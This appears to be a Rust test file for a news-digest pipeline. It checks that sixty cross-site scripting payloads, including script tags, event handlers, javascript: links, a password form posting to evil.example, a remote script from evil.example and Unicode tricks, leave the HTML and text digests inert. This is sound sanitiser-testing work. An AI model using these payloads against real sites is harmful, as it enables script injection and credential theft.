//! S-4: sixty payloads in titles, authors, texts and links, through the whole house: the digest has the same elements as
//! with harmless ones, in HTML and as text.

use std::collections::BTreeSet;

use sitrep::model::digest::Variant;
use sitrep::model::filter::{Filter, Grouping};
use sitrep::pipeline::Request;
use trafilatura::dom::Document;

use super::rss;
use crate::support::newsdesk::{Newsdesk, source};
use crate::support::samples::window;
use crate::support::website::{Reply, Website};

/// After the families of the OWASP filter evasion cheat sheet, in words of our own where there are words.
const PAYLOADS: [&str; 60] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=x:x onerror=\"alert(1)\" <b",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img src=`javascript:alert(1)`>",
    "<img src=\"jav&#x09;ascript:alert(1);\">",
    "<img src=\" &#14; javascript:alert(1);\">",
    "<img dynsrc=\"javascript:alert(1)\">",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<body onload=alert(1)>",
    "<body background=\"javascript:alert(1)\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<embed src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<a href=\"javascript:alert(1)\">here</a>",
    "<a href=\"data:text/html,x\">here</a>",
    "<a href=\"&#106;avascript:alert(1)\">here</a>",
    "<a onmouseover=alert(1)>here</a>",
    "<form action=\"https://evil.example\"><input name=password></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>now</marquee>",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<style>@import 'javascript:alert(1)';</style>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<div style=\"width:expression(alert(1))\">",
    "<table background=\"javascript:alert(1)\"><td>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "\" style=\"position:fixed\" onclick=\"alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u{202e}tpircs\u{2066}<script>\u{200b}alert(1)</script>\u{0}\u{1b}[31m",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
];

/// Where the attacks are, each an event of its own.
const TOWNS: [&str; 12] = [
    "Mayadin",
    "Ariha",
    "Raqqa",
    "Homs",
    "Daraa",
    "Palmyra",
    "Manbij",
    "Afrin",
    "Azaz",
    "Qamishli",
    "Latakia",
    "Salamiyah",
];

/// A feed of one article for each decoration, which stands in title, author and link, and in the text where `deep`.
fn feed(decorations: impl Iterator<Item = String>, deep: bool) -> String {
    let items = decorations.enumerate().map(|(n, decoration)| {
        let cdata = decoration.replace("]]>", "]]]]><![CDATA[>").replace(['\u{0}', '\u{1b}'], "");
        let (day, town, inside) = (10 + n / 12, TOWNS[n % 12], if deep { cdata.as_str() } else { "" });
        format!(
            "<item><title><![CDATA[Report {n} {cdata}]]></title><guid isPermaLink=\"false\">r{n}</guid>\
             <link><![CDATA[javascript:{cdata}]]></link><author><![CDATA[Ann {cdata}]]></author>\
             <pubDate>{day} Jun 2020 18:00:00 GMT</pubDate><description><![CDATA[<p>Islamic State gunmen attacked a \
             Syrian army checkpoint near {town} on {day} June, killing {} soldiers{inside}.</p>{inside}]]></description></item>",
            n + 2
        )
    });
    rss(&items.collect::<String>())
}

/// The digest of everything, as HTML and as text.
async fn digest(feed: String) -> (String, String) {
    let site = Website::start().await;
    site.on("/feed", Reply::feed(feed));
    let mut source = source("valley", "http://outlet.example/feed");
    source.theatres = vec!["syria".to_owned()];
    let desk = Newsdesk::open(&site, "2020-06-26T08:00:00Z", vec![source]).await;
    let (gathered, _) = desk.pipeline.prepare().await.unwrap();
    assert_eq!(gathered.sources[0].new, 60, "{:?}", gathered.sources[0]);
    let variant = Variant {
        filter: Filter::default(),
        grouping: Grouping::Region,
        language: "en".to_owned(),
        zone: "UTC".to_owned(),
        brief: false,
    };
    let june = window("2020-06-01T00:00Z", "2020-07-01T00:00Z");
    let request = Request { title: "June".to_owned(), window: june, variant };
    let situation = desk.pipeline.answer(&request).await.unwrap();
    let titles = situation.sources.len();
    assert!(titles > 0, "no article is referred to");
    let digest = desk
        .pipeline
        .rendered("s4".into(), None, &desk.pipeline.told_now(situation, None))
        .unwrap();
    (digest.html, digest.text)
}

/// The names of all elements. Sorted, because equals among the events stand in the order of their ids, which follow
/// from their articles' titles too.
fn elements(html: &str) -> Vec<String> {
    let doc = Document::parse(html);
    let all = doc.query_selector_all(doc.root(), "*");
    let mut names: Vec<_> = all.into_iter().map(|node| doc.tag_name(node).to_owned()).collect();
    names.sort();
    names
}

/// No element carries what runs, and no link leads elsewhere than to the web.
fn assert_inert(html: &str) {
    let doc = Document::parse(html);
    for link in doc.query_selector_all(doc.root(), "[href]") {
        let href = doc.get_attribute(link, "href").unwrap();
        assert!(["https:", "http:", "mailto:", "#"].iter().any(|s| href.starts_with(s)), "{href}");
    }
    for handler in ["onerror", "onload", "onclick", "onmouseover", "onfocus", "onbegin", "srcdoc"] {
        assert!(doc.query_selector(doc.root(), &format!("[{handler}]")).is_none(), "{handler}");
    }
}

/// No character that hides or reorders text, but for those with which we fill the preheader up.
fn assert_visible(text: &str, benign: &str) {
    for hidden in ['\u{202e}', '\u{2066}', '\u{200b}', '\u{0}', '\u{1b}'] {
        let count = |text: &str| text.matches(hidden).count();
        assert!(count(text) == 0 || count(text) == count(benign), "{hidden:?}");
    }
}

fn harmless() -> impl Iterator<Item = String> {
    (0..60).map(|n| format!("of day {n}"))
}

fn payloads() -> impl Iterator<Item = String> {
    PAYLOADS.iter().map(|payload| (*payload).to_owned())
}

#[tokio::test(flavor = "multi_thread")]
async fn s_4_payloads_in_titles_authors_and_links_leave_the_digest_as_it_is() {
    let (benign, plain) = digest(feed(harmless(), false)).await;
    let (html, text) = digest(feed(payloads(), false)).await;
    assert_eq!(elements(&html), elements(&benign));
    assert!(elements(&html).len() > 200, "{}", elements(&html).len());
    assert_inert(&html);
    assert_visible(&html, &benign);
    assert_visible(&text, "");
    // Titles may be longer or shorter, so lines are wrapped otherwise; blank lines part the same blocks.
    let blocks = |text: &str| text.split("\n\n").count();
    assert_eq!(blocks(&text), blocks(&plain));
}

#[tokio::test(flavor = "multi_thread")]
async fn s_5_an_article_plants_no_address_and_no_line_in_the_text_part() {
    let addresses = (0..60).map(|n| match n % 4 {
        0 => " seen at http://evil.example/sign-in".to_owned(),
        1 => " seen at www.evil.example".to_owned(),
        2 => " said help@evil.example".to_owned(),
        _ => " seen\n\nFrom: desk@evil.example\n\nhttps://evil.example/renew".to_owned(),
    });
    let (html, text) = digest(feed(addresses, true)).await;
    for part in [&html, &text] {
        assert!(!part.contains("evil.example"), "{part}");
    }
    let (_, plain) = digest(feed(harmless(), true)).await;
    let blocks = |text: &str| text.split("\n\n").count();
    assert_eq!(blocks(&text), blocks(&plain));
}

#[tokio::test(flavor = "multi_thread")]
async fn s_4_payloads_in_texts_add_no_element_to_the_digest() {
    let (benign, _) = digest(feed(harmless(), true)).await;
    let (html, text) = digest(feed(payloads(), true)).await;
    let kinds = |html: &str| BTreeSet::from_iter(elements(html));
    let added: Vec<_> = kinds(&html).difference(&kinds(&benign)).cloned().collect();
    assert_eq!(added, Vec::<String>::new());
    assert_inert(&html);
    assert_visible(&html, &benign);
    assert_visible(&text, "");
}
